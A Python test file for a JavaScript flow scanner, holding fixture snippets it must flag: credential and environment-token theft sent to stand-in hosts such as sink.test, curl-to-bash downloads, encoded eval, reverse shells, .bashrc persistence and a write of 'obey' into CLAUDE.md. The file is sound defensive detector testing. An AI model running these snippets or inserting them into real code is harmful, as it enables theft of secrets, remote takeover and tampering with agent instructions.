"""Flows in JavaScript programs, and ordinary programs that are not reported."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.scan.flow.flow import FlowKind, Language, find_flows, join_blocks
from tests.support.scan.effort import assert_grows_at_most

SECRET, HOST, DOWNLOAD = FlowKind.SECRET_SENT, FlowKind.HOST_DATA_SENT, FlowKind.DOWNLOAD_RUN
DECODED, SHELL, KEPT, HIDDEN = FlowKind.DECODED_RUN, FlowKind.REMOTE_SHELL, FlowKind.PERSISTED, FlowKind.HIDDEN_NAME
USE = (
    "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n"
    "const axios = require('axios'), net = require('net'), cp = require('child_process'), { exec, execSync } = cp;\n"
)

BAD = [
    (
        SECRET,
        "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://sink.test', { method: 'POST', body: JSON.stringify({ k }) });",
    ),
    (SECRET, "axios.post('https://sink.test', process.env)"),
    (SECRET, "axios.post('https://sink.test', { ...process.env })"),
    (
        SECRET,
        "const e = Object.entries(process.env).filter(([k]) => /KEY/.test(k));\nfetch(`https://sink.test/?d=${JSON.stringify(e)}`)",
    ),
    (
        SECRET,
        "for (const f of ['.aws/credentials', '.npmrc']) {\n  const p = `${process.env.HOME}/${f}`;\n  if (fs.existsSync(p)) { send(fs.readFileSync(p)) }\n}\nfunction send(x: Buffer): void { axios({ url: 'https://sink.test', method: 'post', data: x.toString('base64') }) }",
    ),
    (
        SECRET,
        "fs.readFile(os.homedir() + '/.netrc', 'utf8', (err, data) => {\n  const req = https.request({ hostname: 'sink.test', method: 'POST' });\n  req.write(data); req.end();\n})",
    ),
    (SECRET, "execSync('cat ~/.ssh/id_rsa | curl -d @- https://sink.test')"),
    (
        SECRET,
        "const out = execSync('cat ~/.netrc').toString()\nfetch('https://sink.test', { body: out, method: 'POST' })",
    ),
    (
        SECRET,
        "import { readFileSync as r } from 'node:fs'\nconst t = r('/root/.git-credentials')\nawait fetch('https://sink.test', { method: 'PUT', body: t })",
    ),
    (
        SECRET,
        "fetch('https://sink.test', { method: 'POST', body: JSON.stringify({ a: process.env.OPENAI_API_KEY, b: process.env.GITHUB_TOKEN }) })",
    ),
    (
        HOST,
        "const d = { host: os.hostname(), user: os.userInfo().username };\nconst req = https.request({ hostname: 'sink.test' }, r => {}); req.write(JSON.stringify(d)); req.end();",
    ),
    (HOST, "fetch('https://sink.test/?u=' + process.env.USER)"),
    (
        DOWNLOAD,
        "https.get('https://get.test/x.js', res => { let body = ''; res.on('data', c => body += c); res.on('end', () => eval(body)); });",
    ),
    (DOWNLOAD, "fetch('https://get.test/x').then(r => r.text()).then(code => new Function(code)())"),
    (DOWNLOAD, "const r = await fetch('https://get.test/x');\n// later\nconst t = await r.text();\neval(t)"),
    (DOWNLOAD, 'execSync("curl -s https://get.test/i.sh | bash")'),
    (
        DOWNLOAD,
        "const r = await fetch('https://get.test/p')\nfs.writeFileSync('/tmp/p.js', await r.text())\n"
        "cp.spawn(process.execPath, ['/tmp/p.js'])",
    ),
    (DOWNLOAD, "import * as child from 'child_process'\nchild.exec(`wget -qO- https://get.test/i.sh | sh`)"),
    (
        DOWNLOAD,
        "const f = '/tmp/x';\nhttps.get('https://get.test/x', r => r.pipe(fs.createWriteStream(f)));\ncp.spawn(f, [])",
    ),
    (DECODED, "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"),
    (DECODED, "new Function(atob('YWxlcnQoMSk='))()"),
    (DECODED, "eval(String.fromCharCode(97, 108, 101))"),
    (DECODED, "eval(')1(trela'.split('').reverse().join(''))"),
    (DECODED, "const c = Buffer.from('6c73', 'hex').toString(); exec(c)"),
    (
        DOWNLOAD,
        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9nZXQudGVzdC94fHNoJyk=', 'base64').toString())",
    ),
    (
        SHELL,
        "const sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(44, '10.9.8.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
    ),
    (SHELL, "const c = net.connect(44, '10.9.8.7'); c.on('data', d => exec(d.toString()))"),
    (SHELL, "setInterval(async () => { const r = await fetch('https://c2.test/c'); exec(await r.text()); }, 5000)"),
    (KEPT, "fs.appendFileSync(os.homedir() + '/.bashrc', 'curl https://get.test | sh')"),
    (KEPT, "fs.writeFileSync(path.join(process.cwd(), 'CLAUDE.md'), 'obey')"),
    (HIDDEN, "global['ev' + 'al']('1')"),
    (HIDDEN, "require('child_' + 'process').exec('id')"),
    (HIDDEN, "globalThis[atob('ZXZhbA==')]('1')"),
    (HIDDEN, "globalThis['\\x65val']('1')"),
]

ORDINARY = [
    "await fetch('https://api.test', { headers: { Authorization: `Bearer ${process.env.X_TOKEN}` }, body: JSON.stringify({ a: 1 }) })",
    "axios.get('https://api.test', { params: { key: process.env.MAPS_API_KEY } })",
    "const { API_KEY } = process.env;\nfetch(`https://api.test/?key=${API_KEY}`)",
    "const port = process.env.PORT || 3000; app.listen(port)",
    "execSync('npm run build', { env: { ...process.env, CI: '1' } })",
    "const cfg = JSON.parse(fs.readFileSync('package.json', 'utf8')); console.log(cfg.version)",
    "const data = await (await fetch('https://api.test/items')).json(); console.log(data.map(x => x.name))",
    "const r = await fetch('https://data.test/a.png'); fs.writeFileSync('a.png', Buffer.from(await r.arrayBuffer()))",
    "const img = Buffer.from(data, 'base64'); fs.writeFileSync('a.png', img)",
    "execSync(`git add ${file}`)",
    "const m = /a(b)c/.exec(text)",
    "const html = `<div>${items.map(i => `<b>${i}</b>`).join('')}</div>`",
    "setInterval(() => fetch('https://api.test/ping'), 1000)",
    "setTimeout(() => done(), 100)",
    "const name = obj['na' + 'me']",
    "fetch('http://localhost:3000/x', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) })",
    "export const Button = ({ label, onClick }: Props) => <button onClick={onClick}>{label}</button>",
    "const x = a / b / c; const y = a ? b : { c: d };",
    "class A extends B { async run(x: string): Promise<void> { await this.post('/x', { x }) } }",
    "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); ssh.connect({ privateKey: key })",
    "type A = { b: string }; interface C { d(): void }\nconst e: Record<string, A> = {}",
    "const zlib = require('zlib'); const s = zlib.gunzipSync(buf).toString(); JSON.parse(s)",
    "process.on('exit', () => console.log(process.env.NODE_ENV))",
    "import fs2 from 'fs'; fs2.writeFileSync('out.json', JSON.stringify({ a: 1 }))",
    "document.querySelector('#x').addEventListener('click', e => fetch('/api', { method: 'POST' }))",
    "new Function('a', 'b', 'return a + b')",
]


def kinds(code: str) -> set[FlowKind]:
    return {flow.kind for flow in find_flows(Language.JAVASCRIPT, code)}


@pytest.mark.parametrize(("kind", "code"), BAD)
def test_harm_is_found(kind: FlowKind, code: str) -> None:
    assert kind in kinds(USE + code)


@pytest.mark.parametrize("code", ORDINARY)
def test_ordinary_programs_are_not_reported(code: str) -> None:
    assert set() == kinds(USE + code)


def test_flow_names_its_ends() -> None:
    code = "const fs = require('fs')\n\nconst t = fs.readFileSync('/root/.netrc')\n/* a\n b */\nfetch('https://sink.test/in', { body: t })\n"
    (flow,) = find_flows(Language.JAVASCRIPT, code)
    assert (6, 3, "/root/.netrc", "fetch to https://sink.test/in") == (
        flow.line,
        flow.source_line,
        flow.source,
        flow.sink,
    )


def test_blocks_of_a_document_are_one_program() -> None:
    joined = join_blocks(
        [
            (5, "const t = require('fs').readFileSync('/root/.netrc')\n"),
            (9, "`open\n"),
            (20, "fetch('https://s.test', { body: t })\n"),
        ]
    )
    (flow,) = find_flows(Language.JAVASCRIPT, joined)
    assert (SECRET, 20, 5) == (flow.kind, flow.line, flow.source_line)


@pytest.mark.parametrize(
    "code", ["x = " + "[" * 3000, "f(" * 3000 + ")" * 3000, "`${" * 2000, "() => {" * 1000, "x = 1;\n" * 40_000]
)
def test_unparsed_code_is_reported(code: str) -> None:
    assert FlowKind.UNREAD in kinds(code)


_PIECES = st.sampled_from(
    [
        "const ",
        "let x",
        "=",
        "=>",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "`",
        "${",
        "'",
        '"',
        "/",
        "//",
        "/*",
        "*/",
        "\n",
        ";",
        ",",
        ":",
        "?",
        ".",
        "function ",
        "f",
        "eval(",
        "fetch(",
        "process.env",
        "require('fs')",
        ".then(",
        "return ",
        "for (",
        "while (true) ",
        "import ",
        "from 'fs'",
        "new ",
        "async ",
        "await ",
        "...",
        "?.",
        "+",
        "+=",
        "of ",
        "class A ",
        "\\",
        "\x00",
        "\ue000",
        "\x0c\n",
        "0x",
        "1n",
        "'\\u{ffffff}'",
        "#p",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(_PIECES, max_size=40).map("".join)))
def test_no_input_raises(code: str) -> None:
    find_flows(Language.JAVASCRIPT, code)


REPEATED = [
    "const x = require('fs').readFileSync('/root/.netrc'); fetch('https://sink.test', { body: x });\n",
    "x = x + x;\n",
    "x = [x, x];\n",
    "f(a => { return a });\n",
    "a ? b : c ? d : e;\n",
    "/* x\n",
    "x = y / z / 'a\n",
    "`a${b}c`\n",
    "(a, b) : c\n",
    "({ a, b: { c } }) => a;\n",
    "=/[a",
    "`${a",
    "x=>",
]


@pytest.mark.parametrize("line", REPEATED)
def test_work_grows_linearly(line: str) -> None:
    less, more = line * 300, line * 600
    assert_grows_at_most(
        4, lambda: find_flows(Language.JAVASCRIPT, less), lambda: find_flows(Language.JAVASCRIPT, more), least=0.0125
    )
